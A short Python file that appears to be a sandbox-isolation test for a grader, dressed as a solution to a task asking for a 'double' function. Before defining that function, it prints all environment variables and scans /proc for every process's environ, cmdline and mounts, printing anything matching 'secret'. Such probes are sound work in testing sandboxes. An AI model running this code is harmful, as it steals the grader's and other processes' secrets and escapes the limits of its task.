# tries: to read variables and command lines of the grading process and of all others
# costs: nothing
# %% double
import os
import re

print(dict(os.environ))
numbers = [name for name in os.listdir("/proc") if name.isdigit()]
for number in {*numbers, "self", "1", "@PID@", "@VICTIM@"}:
    for name in ("environ", "cmdline", "maps", "mountinfo", "cwd", "root"):
        try:
            text = open(f"/proc/{number}/{name}", errors="replace").read()
            if found := re.findall(r"secret\w+", text):
                print(number, name, found)
        except OSError:
            pass


def double(x):
    return 2 * x
